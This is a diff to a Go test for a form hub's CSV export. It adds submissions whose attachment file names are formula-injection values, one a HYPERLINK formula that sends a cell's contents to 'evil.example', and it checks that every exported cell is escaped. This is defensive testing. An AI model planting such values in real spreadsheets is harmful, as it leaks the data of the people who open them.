@@ -49,6 +49,11 @@ func TestSubmissionsFormats(t *testing.T) {
 		hub.Submission{ID: hub.NewID(at.Add(time.Second)), Site: "acme", Form: "survey", CreatedAt: at.Add(time.Second),
 			Payload:     []byte(`{"plan":"pro"}`),
 			Attachments: []hubclient.Attachment{{Key: "uploads/acme/survey/k/a.png", Filename: "a.png", Size: 3, MIME: "image/png"}}},
+		hub.Submission{ID: hub.NewID(at.Add(2 * time.Second)), Site: "acme", Form: "survey", CreatedAt: at.Add(2 * time.Second),
+			Payload: []byte(`{"plan":"-5","n":-5}`),
+			Attachments: []hubclient.Attachment{
+				{Key: "uploads/acme/survey/l/x.csv", Filename: `=HYPERLINK("http://evil.example/?"&B2,"Open")`, Size: 3, MIME: "text/csv"},
+				{Key: "uploads/acme/survey/m/y.txt", Filename: "@SUM(1)", Size: 3, MIME: "text/plain"}}},
 	)
 
 	status, stdout, stderr := hubform(t, "submissions", "export", "--data", data, "--format", "csv")
@@ -56,7 +61,7 @@ func TestSubmissionsFormats(t *testing.T) {
 		t.Fatalf("csv: %d %s", status, stderr)
 	}
 	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
-	if err != nil || len(rows) != 3 {
+	if err != nil || len(rows) != 4 {
 		t.Fatalf("csv rows %q, %v", rows, err)
 	}
 	want := []string{"id", "site", "form", "createdAt", "formula", "n", "name", "plan", "tags", "attachments"}
@@ -69,15 +74,27 @@ func TestSubmissionsFormats(t *testing.T) {
 	if rows[2][9] != "a.png (uploads/acme/survey/k/a.png)" || rows[2][3] != "2026-11-21T09:00:01Z" {
 		t.Errorf("second row %q", rows[2])
 	}
+	// Every cell is escaped, the hub's own columns too: a file name is
+	// the visitor's, and a number reads as text.
+	if got := rows[3][5] + "|" + rows[3][7] + "|" + rows[3][9]; got != `'-5|'-5|'=HYPERLINK("http://evil.example/?"&B2,"Open") (uploads/acme/survey/l/x.csv); @SUM(1) (uploads/acme/survey/m/y.txt)` {
+		t.Errorf("third row %q", rows[3])
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
 
 	status, stdout, _ = hubform(t, "submissions", "export", "--data", data, "--form", "survey")
 	var listed []map[string]any
-	if status != 0 || json.Unmarshal([]byte(stdout), &listed) != nil || len(listed) != 1 || listed[0]["form"] != "survey" {
+	if status != 0 || json.Unmarshal([]byte(stdout), &listed) != nil || len(listed) != 2 || listed[0]["form"] != "survey" {
 		t.Errorf("filtered json: %d %q", status, stdout)
 	}
 
 	status, stdout, _ = hubform(t, "submissions", "list", "--data", data)
-	if status != 0 || !strings.Contains(stdout, "acme/contact") || !strings.Contains(stdout, "2 submissions") {
+	if status != 0 || !strings.Contains(stdout, "acme/contact") || !strings.Contains(stdout, "3 submissions") {
 		t.Errorf("table: %d %q", status, stdout)
 	}
 }
